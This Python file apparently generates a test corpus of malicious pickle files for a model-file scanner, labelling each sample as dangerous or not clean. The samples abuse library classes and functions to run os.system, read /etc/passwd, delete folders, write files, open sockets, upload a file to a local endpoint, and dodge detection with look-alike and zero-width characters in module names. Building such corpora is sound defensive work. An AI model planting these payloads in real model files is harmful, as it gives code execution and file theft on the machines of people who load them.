"""Pickles that import nothing but what known libraries bring along, and still do more than to build a model: classes that
unpickle, open or delete what their state names, functions by the opcodes of classes, and what is handed on to be called."""

import struct

from opcodes import *

NOISY = NONE + POP + MARK + b"1" + bytes(PAYLOAD) + STOP
"""A pickle that does not begin as one."""


def new(module, attribute, state=None, arguments=()):
    """NEWOBJ, and BUILD where there is a state."""
    body = name(module, attribute) + value(arguments) + NEWOBJ
    return Raw(body if state is None else body + value(state) + BUILD)


def build(corpus):
    def add(title, body, about, expect="not-clean", callable=None, number=4):
        corpus.hostile("gadgets", f"{title}.pkl", proto(number) + bytes(value(body)) + STOP, about, expect, callable)

    wrapper = ("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper")
    add("unpickles-its-state", new(*wrapper, (NOISY, False)), "a data pipe unpickles the bytes of its state")
    add("unpickles-its-state-map", new(wrapper[0], "_MapDataPipeSerializationWrapper", (NOISY, False)), "the same for a data pipe of a map")
    add(
        "deletes-a-folder",
        new("transformers.integrations.integration_utils", "NeptuneCallback", {"_volatile_checkpoints_dir": "/nonexistent/weighbridge"}),
        "a callback deletes the folder of its state when it is collected",
    )
    lazy = {"_objects": {}, "_object_missing_backend": {}, "_modules": [], "_class_to_module": {"append": "util"}, "__name__": "ctypes"}
    module = new("transformers.utils.import_utils", "_LazyModule", lazy)
    add("imports-by-its-state", Raw(module + value(1) + APPEND), "a lazy module imports what its state names")
    buffer = call(name("io", "BytesIO"))
    named = Raw(buffer + value((b"", 0, {"name": "/nonexistent/weighbridge"})) + BUILD)
    api = new("huggingface_hub.hf_api", "HfApi", {"endpoint": "http://127.0.0.1:9", "token": "x"})
    file = {"mode": "wb", "closed": False, "forced": False, "offset": 0, "buffer": buffer, "temp_file": named, "fs": api}
    add("uploads-a-file", new("huggingface_hub.hf_file_system", "HfFileSystemFile", file), "a file of a hub uploads what its state names when it is collected")
    opener = new("torch.utils.data.datapipes.iter.fileopener", "FileOpenerIterDataPipe", {"datapipe": ["/nonexistent/weighbridge"], "mode": "w"})
    add("list-of-opened-files", call(name("builtins", "list"), opener), "list() has a data pipe open files for writing")
    reader = new("transformers.trainer_pt_utils", "DistributedTensorGatherer", {})
    add("list-of-an-object", call(name("builtins", "list"), reader), "list() asks an object of a known class for its items")
    loader = new("torch.utils.data.dataloader", "DataLoader", {"dataset": [1], "num_workers": 0})
    add("dict-of-a-loader", call(name("collections", "OrderedDict"), loader), "OrderedDict() runs a DataLoader")
    for title, (package, function) in {
        "sklearn": ("sklearn", "show_versions"), "nltk": ("nltk", "download"), "transformers": ("transformers.commands.env", "main"),
        "torch": ("torch.nn.parallel.comm", "broadcast"),
    }.items():
        full = f"{package}.{function}"
        inst = MARK + b"i" + name(package, function)[1:]
        add(f"inst-of-a-function-{title}", Raw(inst), "INST calls a function without arguments", callable=full)
        add(f"obj-of-a-function-{title}", Raw(MARK + name(package, function) + OBJ), "OBJ calls a function without arguments", callable=full)
    add("newobj-of-type", new("builtins", "type", None, ("X", (name("torch.nn.modules.module", "Module"),), {"a": 1})), "type by NEWOBJ makes a class")
    constructor = name("numpy.random._pickle", "__generator_ctor")
    add("generator-by-any-function", call(constructor, "fast", name("numpy.random", "test")), "NumPy's generators are made by a function of choice")
    ufunc = name("numpy._core", "_ufunc_reconstruct")
    transformer = ("sklearn.preprocessing._function_transformer", "FunctionTransformer")

    def pipeline(function, **more):
        return new(*transformer, {"func": function, "validate": False, "kw_args": more})

    add("ufunc-that-is-none", pipeline(call(ufunc, "numpy", "savetxt"), fname="/nonexistent/weighbridge"), "a function that is no ufunc by the name of one")
    add("ufunc-of-another-package", pipeline(call(ufunc, "numpy.core_evil", "add")), "a module that begins as NumPy's")
    add("method-handed-on", pipeline(call(name("builtins", "getattr"), name("pandas", "DataFrame"), "to_pickle"), path="/nonexistent/x"), "a method that writes files, for whoever uses the model")
    add("method-of-an-array", pipeline(call(name("builtins", "getattr"), name("numpy", "ndarray"), "tofile"), fid="/nonexistent/x"), "a method that writes files")
    logger = call(name("logging", "getLogger"), "transformers")
    add("state-of-a-logger", Raw(logger + value({"handlers": [], "disabled": True}) + BUILD), "BUILD changes the program's own logger", callable=None)
    looked = call(name("builtins", "getattr"), name("torch.nn.modules.module", "Module"), "T_destination")
    many = b"".join([bytes(EMPTY_LIST + POP)] * 40_000)
    add("build-on-what-was-let-go", Raw(looked + put(7) + POP + many + get(7) + value((None, {"a": 1})) + BUILD), "BUILD on an attribute, far behind it")
    add("enum-that-is-a-function", call(name("transformers.trainer_utils", "set_seed"), 1), "a function where members of enums stand")
    add("enum-that-reads", call(name("transformers.utils.generic", "safe_load_json_file"), "/etc/passwd"), "a function that reads a file where members of enums stand")
    add("tokenizer-of-a-file", call(name("tokenizers.implementations", "BertWordPieceTokenizer"), "/etc/passwd"), "a tokenizer reads the file that it is given")
    add("memo-with-underscores", Raw(short("os") + b"p1_000\n0" + short("system") + b"p2_0\n0g1000\ng20\n" + STACK_GLOBAL + value((ECHO,)) + REDUCE),
        "memo entries with underscores in their numbers", "dangerous", "os.system")
    add("string-that-keeps-its-backslash", Raw(b"S'collection\\s'\nS'OrderedDict'\n" + STACK_GLOBAL + EMPTY_TUPLE + REDUCE), "an escape that is none, in a name")
    add("unicode-with-two-backslashes", Raw(b"Vcollection\\\\u0073\nVOrderedDict\n" + STACK_GLOBAL + EMPTY_TUPLE + REDUCE), "a backslash before a backslash, in a name")
    session = new("sklearn.callback._scoring_monitor", "ScoringMonitor", {"_listener_handle": None, "_log": []})
    add("listens", session, "a callback of scikit-learn opens a socket")
    add("subprocess-of-a-tokenizer", new("transformers.models.bert_japanese.tokenization_bert_japanese", "BertJapaneseTokenizer", {"word_tokenizer_type": "jumanpp", "do_lower_case": False, "never_split": [], "jumanpp_kwargs": {}}),
        "a tokenizer that starts a program for its state")
    add("lazy-loader", new("nltk.data", "LazyLoader", {"_path": "file:/nonexistent/x.pickle"}), "a loader that unpickles a file when it is touched")
    add("node-of-a-name", Raw(call(name("_codecs", "encode"), "os", "latin1") + short("system") + STACK_GLOBAL + value((ECHO,)) + REDUCE), "a module's name out of a call", "not-clean")
    add("persistent-class", Raw(value(("module", name("os", "system"), "x.py", "")) + BINPERSID + value((ECHO,)) + REDUCE), "the class of an old persistent id is called", "dangerous", "os.system")
    nested = call(name("torch.storage", "_load_from_bytes"), NOISY)
    add("torch-bytes-with-noise", nested, "torch loads bytes that do not begin as a pickle", "dangerous", "os.system")
    rebuilt = call(name("torch._tensor", "_rebuild_from_type_v2"), name("os", "system"), name("torch._tensor", "Tensor"), (ECHO,), {})
    add("rebuild-by-system", rebuilt, "torch rebuilds a tensor by os.system", "dangerous", "os.system")
    twice = call(name("torch._tensor", "_rebuild_from_type_v2"), name("torch._tensor", "_rebuild_from_type_v2"), name("torch._tensor", "Tensor"),
                 (name("os", "system"), name("torch._tensor", "Tensor"), (ECHO,), {}), {})
    add("rebuild-of-a-rebuild", twice, "torch rebuilds by a rebuild by os.system", "dangerous", "os.system")
    factory = call(name("collections", "defaultdict"), name("posix", "getcwd"))
    add("default-factory-posix", factory, "a defaultdict that calls posix.getcwd", "dangerous", "posix.getcwd")
    add("itemgetter-with-objects", call(name("operator", "itemgetter"), PAYLOAD), "itemgetter of the result of a call", "dangerous", "os.system")
    add("methodcaller", call(call(name("operator", "methodcaller"), "system", ECHO), name("os", "path")), "methodcaller, called", "dangerous")
    add("partial", call(call(name("functools", "partial"), SYSTEM, ECHO)), "partial, called", "dangerous", "os.system")
    add("newobj-ex-keywords", Raw(name("sklearn.svm._classes", "SVC") + EMPTY_TUPLE + value({"kernel": SYSTEM}) + b"\x92"), "a callable among NEWOBJ_EX's keywords", "dangerous", "os.system")
    add("joblib-backend", new("joblib._parallel_backends", "MultiprocessingBackend", {}), "a backend of joblib's that starts processes")
    add("cloudpickle-skeleton", call(name("cloudpickle.cloudpickle", "_make_skeleton_class"), name("builtins", "type"), "X", (), {}, None, None), "cloudpickle makes a class", "dangerous")
    add("look-alike", call(name("numpy._core.multiаrray", "_reconstruct"), 1), "a Cyrillic letter in a known name")
    add("zero-width", call(name("numpy\u200b", "ndarray"), (1,)), "a letter of no width in a known name")
    add("ext-in-arguments", call(name("collections", "OrderedDict"), [Raw(b"\x83" + struct.pack("<H", 1000))]), "an extension's code as an argument")
